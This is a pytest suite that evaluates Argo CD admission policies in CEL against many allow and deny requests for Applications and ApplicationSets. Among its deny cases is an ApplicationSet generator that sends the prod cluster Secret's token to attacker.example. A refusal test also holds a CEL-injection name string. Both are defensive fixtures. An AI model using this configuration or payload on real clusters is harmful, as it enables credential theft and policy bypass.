"""Admission policies on Argo CD's Applications and ApplicationSets (scw_platform/argocd_admission.py):
every policy's CEL compiled and evaluated with cel-python against allow and deny requests, as the
API server would (match constraints, match conditions, variables, validations, messages), with
``object``, ``oldObject`` and ``request``. An evaluation error fails the test: it is never counted
as a denial."""

from __future__ import annotations

import itertools
import re
from dataclasses import dataclass
from typing import Any

import pytest

from scw_platform import argocd_admission as admission
from scw_platform import gitops
from tests import cel

ENVIRONMENTS = ("dev", "prod", "prod-eu", "tooling")
PROGRAM_OWNED = ("dev-website", "prod-api", "prod-website", "tooling-docs")
POLICIES = admission.application_policies(ENVIRONMENTS, PROGRAM_OWNED)

CONTROLLER = "system:serviceaccount:argocd:argocd-application-controller"
SERVER = "system:serviceaccount:argocd:argocd-server"
APPSET_CONTROLLER = "system:serviceaccount:argocd:argocd-applicationset-controller"
GARBAGE_COLLECTOR = "system:serviceaccount:kube-system:generic-garbage-collector"
ADMIN = "admin"
#: Field names a denial message starts with.
FIELDS = (
    "metadata.name",
    "metadata.annotations",
    "metadata.ownerReferences",
    "spec.project",
    "spec.destination",
    "spec.template.spec.project",
    "spec.template.metadata.name",
    "spec.templatePatch",
    "spec.generators[].template.spec.project",
    "spec.generators[].template.metadata.name",
    "spec.generators:",
)


# --- A small admission evaluator ---------------------------------------------------------------


# The shared evaluator (tests/cel.py), under the names these tests use.
_celpy, _program, _evaluate, _holds = cel.celpy_module, cel.program, cel.evaluate, cel.holds


@dataclass(frozen=True)
class Request:
    operation: str
    resource: str
    object: dict[str, Any] | None
    old: dict[str, Any] | None = None
    username: str = CONTROLLER
    namespace: str = "argocd"

    def cel(self) -> dict[str, Any]:
        """The ``request`` variable (AdmissionRequest, the fields these policies may read)."""
        subject = self.object if self.object is not None else self.old
        service_account = self.username.startswith("system:serviceaccount:")
        groups = ["system:serviceaccounts", "system:authenticated"] if service_account else ["system:masters"]
        return {
            "operation": self.operation,
            "namespace": self.namespace,
            "name": (subject or {}).get("metadata", {}).get("name", ""),
            "resource": {"group": "argoproj.io", "version": "v1alpha1", "resource": self.resource},
            "userInfo": {"username": self.username, "groups": groups},
        }


def _constrained(spec: dict[str, Any], request: Request) -> bool:
    constraints = spec["matchConstraints"]
    selector = constraints["namespaceSelector"]["matchLabels"]["kubernetes.io/metadata.name"]
    return request.namespace == selector and any(
        request.operation in rule["operations"] and request.resource in rule["resources"]
        for rule in constraints["resourceRules"]
    )


def _decide(spec: dict[str, Any], request: Request) -> list[str] | None:
    """None when the policy does not apply; else the messages of the validations that fail."""
    celpy = _celpy()
    if not _constrained(spec, request):
        return None
    activation: dict[str, Any] = {
        "object": celpy.json_to_cel(request.object),
        "oldObject": celpy.json_to_cel(request.old),
        "request": celpy.json_to_cel(request.cel()),
    }
    if not all(_holds(c["expression"], activation) for c in spec.get("matchConditions", [])):
        return None
    variables: dict[Any, Any] = {}
    for variable in spec.get("variables", []):
        activation["variables"] = celpy.celtypes.MapType(variables)
        variables[celpy.celtypes.StringType(variable["name"])] = _evaluate(variable["expression"], activation)
    activation["variables"] = celpy.celtypes.MapType(variables)
    failures = []
    for validation in spec["validations"]:
        if _holds(validation["expression"], activation):
            continue
        message = validation["message"]
        if "messageExpression" in validation:
            message = _evaluate(validation["messageExpression"], activation)
            assert isinstance(message, str) and "\n" not in message, message
        failures.append(str(message))
    return failures


def _denials(request: Request, policies: dict[str, dict[str, Any]] = POLICIES) -> dict[str, list[str]]:
    decisions = {pid: _decide(spec, request) for pid, spec in policies.items()}
    return {pid: failures for pid, failures in decisions.items() if failures}


# --- Objects ---------------------------------------------------------------------------------


def _tracking(owner: str, kind: str, name: str) -> dict[str, str]:
    return {gitops.TRACKING_ANNOTATION: f"{owner}:argoproj.io/{kind}:argocd/{name}"}


def application(
    name: str = "prod-blog",
    *,
    owner: str | None = "prod-root",
    project: str | None = "prod",
    destination: dict[str, str] | None = None,
    owner_references: list[dict[str, Any]] | None = None,
    **metadata: Any,
) -> dict[str, Any]:
    meta: dict[str, Any] = {"name": name, "namespace": "argocd", **metadata}
    if owner is not None:
        meta["annotations"] = _tracking(owner, "Application", name)
    if owner_references is not None:
        meta["ownerReferences"] = owner_references
    spec: dict[str, Any] = {
        "destination": destination if destination is not None else {"name": "prod", "namespace": "blog"},
        "source": {"repoURL": "https://git.example.com/platform/gitops.git", "path": f"apps/{name}"},
    }
    if project is not None:
        spec["project"] = project
    return {"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "metadata": meta, "spec": spec}


def _with(obj: dict[str, Any], **changes: Any) -> dict[str, Any]:
    """A copy of ``obj`` with ``spec`` keys, ``metadata`` keys (``meta_*``) or status replaced."""
    spec = {**obj["spec"], **{k: v for k, v in changes.items() if not k.startswith(("meta_", "status"))}}
    meta = {**obj["metadata"], **{k[5:]: v for k, v in changes.items() if k.startswith("meta_")}}
    meta = {k: v for k, v in meta.items() if v is not None}
    copy = {**obj, "metadata": meta, "spec": spec}
    if "status" in changes:
        copy["status"] = changes["status"]
    return copy


def _generator(template: dict[str, Any] | None = None) -> dict[str, Any]:
    generator: dict[str, Any] = {"elements": [{"name": "a"}]}
    if template is not None:
        generator["template"] = template
    return {"list": generator}


def application_set(
    name: str = "prod-blogs",
    *,
    owner: str | None = "prod-root",
    project: str = "prod",
    template_name: str | None = "prod-{{.name}}",
    generators: list[Any] | None = None,
    **extra: Any,
) -> dict[str, Any]:
    template: dict[str, Any] = {
        "metadata": {"name": template_name} if template_name is not None else {},
        "spec": {"project": project, "destination": {"name": "prod", "namespace": "{{.name}}"}},
    }
    meta: dict[str, Any] = {"name": name, "namespace": "argocd"}
    if owner is not None:
        meta["annotations"] = _tracking(owner, "ApplicationSet", name)
    spec = {
        "generators": generators if generators is not None else [_generator()],
        "template": template,
        **extra,
    }
    return {"apiVersion": "argoproj.io/v1alpha1", "kind": "ApplicationSet", "metadata": meta, "spec": spec}


def create(obj: dict[str, Any], username: str = CONTROLLER, namespace: str = "argocd") -> Request:
    resource = "applicationsets" if obj["kind"] == "ApplicationSet" else "applications"
    return Request("CREATE", resource, obj, username=username, namespace=namespace)


def update(old: dict[str, Any], new: dict[str, Any], username: str = CONTROLLER) -> Request:
    resource = "applicationsets" if new["kind"] == "ApplicationSet" else "applications"
    return Request("UPDATE", resource, new, old, username=username)


def delete(old: dict[str, Any], username: str) -> Request:
    return Request("DELETE", "applications", None, old, username=username)


BLOG = application()
WEBSITE = application("prod-website", owner=None, destination={"name": "prod", "namespace": "website"})
APPSET_OWNER = [
    {"apiVersion": "argoproj.io/v1alpha1", "kind": "ApplicationSet", "name": "prod-blogs", "controller": True}
]

# --- Decisions -------------------------------------------------------------------------------

#: (request, {denying policy id: text one of its messages contains}); {} = admitted.
APPLICATION_CASES = {
    # Allowed
    "tracked prod-blog in project prod": (create(BLOG), {}),
    "tooling-root -> tooling-wiki in project tooling": (
        create(application("tooling-wiki", owner="tooling-root", project="tooling")),
        {},
    ),
    "prod-eu-root -> prod-eu-blog in project prod-eu": (
        create(application("prod-eu-blog", owner="prod-eu-root", project="prod-eu")),
        {},
    ),
    "the program creates its prod-website (untracked)": (create(WEBSITE, ADMIN), {}),
    "the program creates the root app prod-root": (
        create(application("prod-root", owner=None, project="platform"), ADMIN),
        {},
    ),
    "the controller writes a tracked child's status": (
        update(BLOG, _with(BLOG, status={"sync": "Synced"})),
        {},
    ),
    "the program changes prod-website's spec": (
        update(WEBSITE, _with(WEBSITE, source={"path": "apps/website-v2"}), ADMIN),
        {},
    ),
    "the controller writes prod-website's status": (update(WEBSITE, _with(WEBSITE, status={"h": "ok"})), {}),
    "the controller removes prod-website's finalizer after the program deleted it": (
        update(
            _with(WEBSITE, meta_finalizers=["resources-finalizer.argocd.argoproj.io"]),
            _with(WEBSITE, meta_deletionTimestamp="2026-01-01T00:00:00Z"),
        ),
        {},
    ),
    "an ApplicationSet generates prod-blogs-a": (
        create(application("prod-blogs-a", owner=None, owner_references=APPSET_OWNER), APPSET_CONTROLLER),
        {},
    ),
    "outside argocd: not constrained": (
        create(application("tooling-evil", project="tooling"), namespace="other"),
        {},
    ),
    # Names
    "prod-root -> tooling-evil (project prod)": (
        create(application("tooling-evil")),
        {"applications": "must be named prod-..."},
    ),
    "prod-root -> blog (no environment prefix)": (
        create(application("blog")),
        {"applications": "metadata.name"},
    ),
    "prod-root -> prod-eu-blog (another environment's prefix)": (
        create(application("prod-eu-blog")),
        {"applications": "metadata.name"},
    ),
    "prod-root -> prod-root": (
        create(application("prod-root")),
        {"applications": "reserved", "program-owned": "metadata.annotations"},
    ),
    "prod-root -> prod-x-root": (
        create(application("prod-x-root")),
        {"applications": "reserved", "program-owned": "metadata.annotations"},
    ),
    "prod-root -> prod-website (program-owned)": (
        create(application("prod-website")),
        {"applications": "reserved", "program-owned": "metadata.annotations"},
    ),
    # Projects (today's rules)
    "prod-root -> project tooling": (
        create(application(project="tooling")),
        {"applications": "spec.project"},
    ),
    "prod-root -> project default": (
        create(application(project="default")),
        {"applications": "spec.project"},
    ),
    "prod-root -> project platform": (
        create(application(project="platform")),
        {"applications": "spec.project"},
    ),
    "prod-root -> no project": (create(application(project=None)), {"applications": "spec.project"}),
    "tooling-root -> project prod": (
        create(application("tooling-x", owner="tooling-root")),
        {"applications": "spec.project"},
    ),
    "tracked by an app that is not a root app": (
        create(application(owner="prod-website")),
        {"applications": "spec.project"},
    ),
    "tracked by prod-rooted": (create(application(owner="prod-rooted")), {"applications": "spec.project"}),
    "an unknown environment's root": (
        create(application("staging-x", owner="staging-root", project="staging")),
        {"applications": "spec.project"},
    ),
    # UPDATE against oldObject
    "UPDATE spec.project prod -> tooling": (
        update(BLOG, _with(BLOG, project="tooling")),
        {"applications": "may not change from prod"},
    ),
    "UPDATE spec.destination.namespace": (
        update(BLOG, _with(BLOG, destination={"name": "prod", "namespace": "kube-system"})),
        {"applications": "spec.destination"},
    ),
    "UPDATE spec.destination.server": (
        update(
            BLOG, _with(BLOG, destination={"server": "https://kubernetes.default.svc", "namespace": "blog"})
        ),
        {"applications": "spec.destination"},
    ),
    "UPDATE spec.destination.name": (
        update(BLOG, _with(BLOG, destination={"name": "in-cluster", "namespace": "blog"})),
        {"applications": "spec.destination"},
    ),
    "UPDATE dropping the tracking id while moving to project tooling": (
        update(BLOG, _with(BLOG, project="tooling", meta_annotations=None), ADMIN),
        {"applications": "spec.project"},
    ),
    "UPDATE of prod-website adding prod-root's tracking id": (
        update(
            WEBSITE, _with(WEBSITE, meta_annotations=_tracking("prod-root", "Application", "prod-website"))
        ),
        {"program-owned": "metadata.annotations", "applications": "reserved"},
    ),
    "UPDATE of prod-website that already carries prod-root's tracking id, by the program": (
        update(
            _with(WEBSITE, meta_annotations=_tracking("prod-root", "Application", "prod-website")),
            _with(WEBSITE, meta_annotations=_tracking("prod-root", "Application", "prod-website"), x=1),
            ADMIN,
        ),
        {"program-owned": "metadata.annotations", "applications": "reserved"},
    ),
    "UPDATE of prod-root adding tooling-root's tracking id": (
        update(
            application("prod-root", owner=None, project="platform"),
            application("prod-root", owner="tooling-root", project="platform"),
        ),
        {"program-owned": "metadata.annotations", "applications": "spec.project"},
    ),
    "an ApplicationSet generates prod-website": (
        create(application("prod-website", owner=None, owner_references=APPSET_OWNER), APPSET_CONTROLLER),
        {"program-owned": "metadata.ownerReferences"},
    ),
    "an ApplicationSet adopts prod-website": (
        update(WEBSITE, _with(WEBSITE, meta_ownerReferences=APPSET_OWNER), APPSET_CONTROLLER),
        {"program-owned": "metadata.ownerReferences"},
    ),
    "an ApplicationSet generates prod-root": (
        create(application("prod-root", owner=None, owner_references=APPSET_OWNER), APPSET_CONTROLLER),
        {"program-owned": "metadata.ownerReferences"},
    ),
    # DELETE
    "DELETE prod-website by argocd-server": (delete(WEBSITE, SERVER), {"program-owned-delete": SERVER}),
    "DELETE prod-website by the application controller": (
        delete(WEBSITE, CONTROLLER),
        {"program-owned-delete": "metadata.name"},
    ),
    "DELETE prod-website by the ApplicationSet controller": (
        delete(WEBSITE, APPSET_CONTROLLER),
        {"program-owned-delete": "metadata.name"},
    ),
    "DELETE prod-website by the garbage collector": (
        delete(WEBSITE, GARBAGE_COLLECTOR),
        {"program-owned-delete": "metadata.name"},
    ),
    "DELETE prod-root by argocd-server": (
        delete(application("prod-root", owner=None, project="platform"), SERVER),
        {"program-owned-delete": "metadata.name"},
    ),
    "DELETE prod-website by admin (the program)": (delete(WEBSITE, ADMIN), {}),
    "DELETE prod-root by admin (the program)": (
        delete(application("prod-root", owner=None, project="platform"), ADMIN),
        {},
    ),
    "DELETE a Git-created prod-extra by the controller (prune)": (
        delete(application("prod-extra"), CONTROLLER),
        {},
    ),
}

APPLICATION_SET_CASES = {
    "well-formed prod-blogs": (create(application_set()), {}),
    "the program's own ApplicationSet (untracked)": (
        create(application_set("anything", owner=None, project="default", template_name="{{.name}}"), ADMIN),
        {},
    ),
    "generator template keeps prod": (
        create(application_set(generators=[_generator({"spec": {"project": "prod"}})])),
        {},
    ),
    "generator template without project": (create(application_set(generators=[_generator({})])), {}),
    "generator template names prod-{{.name}}-x": (
        create(application_set(generators=[_generator({"metadata": {"name": "prod-{{.name}}-x"}})])),
        {},
    ),
    "nested matrix, plain grandchildren": (
        create(
            application_set(
                generators=[
                    {"matrix": {"generators": [_generator(), {"matrix": {"generators": [_generator()]}}]}}
                ]
            )
        ),
        {},
    ),
    "a git generator": (
        create(application_set(generators=[{"git": {"repoURL": "https://x/r.git", "revision": "main"}}])),
        {},
    ),
    # A commit stealing a token: the SCM/pull-request generators send tokenRef Secrets to their API.
    "scmProvider with a tokenRef to prod's cluster Secret": (
        create(
            application_set(
                generators=[
                    {
                        "scmProvider": {
                            "gitlab": {
                                "api": "https://attacker.example",
                                "group": "x",
                                "tokenRef": {"secretName": "cluster-prod", "key": "config"},
                            }
                        }
                    }
                ]
            )
        ),
        {"applicationsets": "spec.generators"},
    ),
    "pullRequest inside a matrix": (
        create(
            application_set(
                generators=[
                    {
                        "matrix": {
                            "generators": [
                                _generator(),
                                {"pullRequest": {"github": {"owner": "x", "repo": "y", "api": "https://a"}}},
                            ]
                        }
                    }
                ]
            )
        ),
        {"applicationsets": "spec.generators"},
    ),
    "plugin two levels down": (
        create(
            application_set(
                generators=[
                    {
                        "merge": {
                            "mergeKeys": ["a"],
                            "generators": [
                                {"matrix": {"generators": [{"plugin": {"configMapRef": {"name": "p"}}}]}}
                            ],
                        }
                    }
                ]
            )
        ),
        {"applicationsets": "spec.generators"},
    ),
    "clusterDecisionResource": (
        create(application_set(generators=[{"clusterDecisionResource": {"configMapRef": "c"}}])),
        {"applicationsets": "spec.generators"},
    ),
    # Today's rules
    "project default": (
        create(application_set(project="default")),
        {"applicationsets": "spec.template.spec.project"},
    ),
    "project templated": (
        create(application_set(project="{{.project}}")),
        {"applicationsets": "spec.template.spec.project"},
    ),
    "templatePatch": (
        create(application_set(templatePatch="spec:\n  project: default\n")),
        {"applicationsets": "spec.templatePatch"},
    ),
    "generator template sets tooling": (
        create(application_set(generators=[_generator({"spec": {"project": "tooling"}})])),
        {"applicationsets": "spec.generators[].template.spec.project"},
    ),
    "matrix child template sets default": (
        create(
            application_set(
                generators=[
                    {"matrix": {"generators": [_generator(), _generator({"spec": {"project": "default"}})]}}
                ]
            )
        ),
        {"applicationsets": "spec.generators[].template.spec.project"},
    ),
    "matrix template sets platform": (
        create(
            application_set(
                generators=[
                    {"matrix": {"generators": [_generator()], "template": {"spec": {"project": "platform"}}}}
                ]
            )
        ),
        {"applicationsets": "spec.generators[].template.spec.project"},
    ),
    "nested matrix, grandchild template sets tooling": (
        create(
            application_set(
                generators=[
                    {
                        "matrix": {
                            "generators": [
                                _generator(),
                                {"merge": {"generators": [_generator({"spec": {"project": "tooling"}})]}},
                            ]
                        }
                    }
                ]
            )
        ),
        {"applicationsets": "spec.generators[].template.spec.project"},
    ),
    "nesting deeper than Argo CD supports": (
        create(
            application_set(
                generators=[
                    {"matrix": {"generators": [{"matrix": {"generators": [{"matrix": {"generators": []}}]}}]}}
                ]
            )
        ),
        {"applicationsets": "spec.generators[].template.spec.project"},
    ),
    # Names
    "prod-root -> ApplicationSet tooling-blogs": (
        create(application_set("tooling-blogs")),
        {"applicationsets": "metadata.name"},
    ),
    "prod-root -> ApplicationSet prod-root": (
        create(application_set("prod-root")),
        {"applicationsets": "reserved"},
    ),
    "template name fully templated": (
        create(application_set(template_name="{{.name}}")),
        {"applicationsets": "spec.template.metadata.name"},
    ),
    "template name tooling-{{.name}}": (
        create(application_set(template_name="tooling-{{.name}}")),
        {"applicationsets": "spec.template.metadata.name"},
    ),
    "template name prod-eu-{{.name}} (another environment's prefix)": (
        create(application_set(template_name="prod-eu-{{.name}}")),
        {"applicationsets": "spec.template.metadata.name"},
    ),
    "template name prod-website": (
        create(application_set(template_name="prod-website")),
        {"applicationsets": "spec.template.metadata.name"},
    ),
    "template name prod-{{.name}}-root": (
        create(application_set(template_name="prod-{{.name}}-root")),
        {"applicationsets": "spec.template.metadata.name"},
    ),
    "template without a name": (
        create(application_set(template_name=None)),
        {"applicationsets": "spec.template.metadata.name"},
    ),
    "generator template renames to tooling-{{.name}}": (
        create(application_set(generators=[_generator({"metadata": {"name": "tooling-{{.name}}"}})])),
        {"applicationsets": "spec.generators[].template.metadata.name"},
    ),
    "matrix child template renames to prod-root": (
        create(
            application_set(
                generators=[{"matrix": {"generators": [_generator({"metadata": {"name": "prod-root"}})]}}]
            )
        ),
        {"applicationsets": "spec.generators[].template.metadata.name"},
    ),
}


def _check(request: Request, expected: dict[str, str]) -> None:
    denials = _denials(request)
    assert set(denials) == set(expected), denials
    for pid, text in expected.items():
        assert any(text in message for message in denials[pid]), (pid, text, denials[pid])
        assert all(message.startswith(FIELDS) for message in denials[pid]), denials[pid]


@pytest.mark.parametrize(("request_", "expected"), APPLICATION_CASES.values(), ids=APPLICATION_CASES.keys())
def test_application_decisions(request_: Request, expected: dict[str, str]) -> None:
    _check(request_, expected)


@pytest.mark.parametrize(
    ("request_", "expected"), APPLICATION_SET_CASES.values(), ids=APPLICATION_SET_CASES.keys()
)
def test_application_set_decisions(request_: Request, expected: dict[str, str]) -> None:
    _check(request_, expected)


# --- Model-based: every combination against a reference written in Python ----------------------


def _environment_of(owner: str) -> str | None:
    env = owner.removesuffix("-root")
    return env if owner.endswith("-root") and env in ENVIRONMENTS else None


def _name_allowed(env: str, name: str) -> bool:
    longer = [e for e in ENVIRONMENTS if e.startswith(env + "-") and name.startswith(e + "-")]
    return (
        name.startswith(env + "-") and not longer and not name.endswith("-root") and name not in PROGRAM_OWNED
    )


OWNERS = ("prod-root", "prod-eu-root", "tooling-root", "staging-root", "prod-website", "prod-rooted")
NAMES = (
    "prod-blog",
    "prod-eu-blog",
    "tooling-blog",
    "prod-root",
    "prod-website",
    "prod-a-root",
    "blog",
    "dev-x",
)
PROJECTS = ("prod", "prod-eu", "tooling", "dev", "default", "platform")


@pytest.mark.parametrize("owner", OWNERS)
def test_tracked_application_create_matches_the_model(owner: str) -> None:
    env = _environment_of(owner)
    for name, project in itertools.product(NAMES, PROJECTS):
        expected = env is not None and project == env and _name_allowed(env, name)
        decision = _decide(POLICIES["applications"], create(application(name, owner=owner, project=project)))
        assert decision is not None
        assert (not decision) is expected, (owner, name, project, decision)


@pytest.mark.parametrize("owner", OWNERS)
def test_application_set_template_names_match_the_model(owner: str) -> None:
    env = _environment_of(owner)
    for template_name in (*NAMES, "prod-{{.name}}", "{{.name}}", "prod-eu-{{.name}}", "tooling-{{.name}}"):
        project = env or "prod"
        obj = application_set(
            f"{env or 'prod'}-set", owner=owner, project=project, template_name=template_name
        )
        expected = env is not None and _name_allowed(env, template_name)
        decision = _decide(POLICIES["applicationsets"], create(obj))
        assert decision is not None
        assert (not decision) is expected, (owner, template_name, decision)


USERNAMES = (ADMIN, "kubernetes-admin", CONTROLLER, SERVER, APPSET_CONTROLLER, GARBAGE_COLLECTOR)


@pytest.mark.parametrize("username", USERNAMES)
def test_deletes_match_the_model(username: str) -> None:
    for name in NAMES:
        reserved = name.endswith("-root") or name in PROGRAM_OWNED
        denied = reserved and username.startswith("system:serviceaccount:")
        assert bool(_denials(delete(application(name), username))) is denied, (name, username)


# --- Shape of the policies ---------------------------------------------------------------------


def _expressions(spec: dict[str, Any]) -> list[str]:
    found = [c["expression"] for c in spec.get("matchConditions", [])]
    found += [v["expression"] for v in spec.get("variables", [])]
    for validation in spec["validations"]:
        found.append(validation["expression"])
        if "messageExpression" in validation:
            found.append(validation["messageExpression"])
    return found


@pytest.mark.parametrize("pid", POLICIES)
def test_every_expression_compiles(pid: str) -> None:
    celpy = _celpy()
    env = celpy.Environment()
    for expression in _expressions(POLICIES[pid]):
        env.compile(expression)  # raises CELParseError


def test_policy_ids_and_match_constraints() -> None:
    expected = {
        "applications": ("applications", ["CREATE", "UPDATE"]),
        "applicationsets": ("applicationsets", ["CREATE", "UPDATE"]),
        "program-owned": ("applications", ["CREATE", "UPDATE"]),
        "program-owned-delete": ("applications", ["DELETE"]),
    }
    assert set(POLICIES) == set(expected)
    for pid, (resource, operations) in expected.items():
        constraints = POLICIES[pid]["matchConstraints"]
        assert constraints["namespaceSelector"] == {
            "matchLabels": {"kubernetes.io/metadata.name": gitops.ARGOCD_NAMESPACE}
        }
        [rule] = constraints["resourceRules"]
        assert rule["apiGroups"] == ["argoproj.io"] and rule["resources"] == [resource]
        assert rule["operations"] == operations


@pytest.mark.parametrize("pid", POLICIES)
def test_policies_fail_closed_and_name_the_field(pid: str) -> None:
    spec = POLICIES[pid]
    assert spec["failurePolicy"] == "Fail"
    assert spec["matchConditions"], "every policy is scoped by a match condition"
    for validation in spec["validations"]:
        assert validation["reason"] == "Forbidden"
        assert validation["message"].startswith(FIELDS), validation["message"]
        assert "\n" not in validation["message"]


def test_delete_policy_reads_old_object_only() -> None:
    for expression in _expressions(POLICIES["program-owned-delete"]):
        assert not re.search(r"\bobject\b", expression), expression
    assert "request.userInfo.username.startsWith('system:serviceaccount:')" in str(
        POLICIES["program-owned-delete"]
    )


@pytest.mark.parametrize("pid", [pid for pid in POLICIES if pid != "program-owned-delete"])
def test_old_object_is_read_on_update_only(pid: str) -> None:
    """oldObject is null on CREATE: every read of it in a CREATE/UPDATE policy is guarded."""
    for expression in _expressions(POLICIES[pid]):
        if "oldObject." in expression:
            guarded = ("request.operation == 'UPDATE' &&", "request.operation != 'UPDATE' ||")
            assert any(guard in expression for guard in guarded), expression


def test_untracked_objects_meet_only_the_program_owned_rules() -> None:
    untracked = create(application("anything-goes", owner=None, project="default"), ADMIN)
    assert {pid: _decide(spec, untracked) for pid, spec in POLICIES.items()} == dict.fromkeys(POLICIES)


def test_binding_specs_deny_under_the_policy_names() -> None:
    bindings = admission.binding_specs(POLICIES)
    assert bindings == {
        pid: {"policyName": f"platform-root-{pid}", "validationActions": ["Deny"]} for pid in POLICIES
    }
    # The two policies that exist today keep their names (no replacement on the switch-over).
    assert admission.policy_name("applications") == "platform-root-applications"
    assert admission.policy_name("applicationsets") == "platform-root-applicationsets"


@pytest.mark.parametrize(
    ("environments", "program_owned"),
    [
        (["prod'"], []),
        (["Prod"], []),
        ([""], []),
        (["prod.eu"], []),
        (["prod"], ["x') || true || ('"]),
        (["prod"], ["Prod-website"]),
    ],
)
def test_names_that_would_break_the_cel_literals_are_refused(
    environments: list[str], program_owned: list[str]
) -> None:
    with pytest.raises(ValueError, match="not a valid"):
        admission.application_policies(environments, program_owned)


def test_every_validation_is_exercised_by_a_denial() -> None:
    """Each validation of each policy fails in at least one case above (none is dead code)."""
    seen: set[tuple[str, str]] = set()
    for request, _ in (*APPLICATION_CASES.values(), *APPLICATION_SET_CASES.values()):
        for pid, spec in POLICIES.items():
            for index, validation in enumerate(spec["validations"]):
                single = {**spec, "validations": [validation]}
                if _decide(single, request):
                    seen.add((pid, str(index)))
    every = {(pid, str(i)) for pid, spec in POLICIES.items() for i in range(len(spec["validations"]))}
    assert every - seen == set()
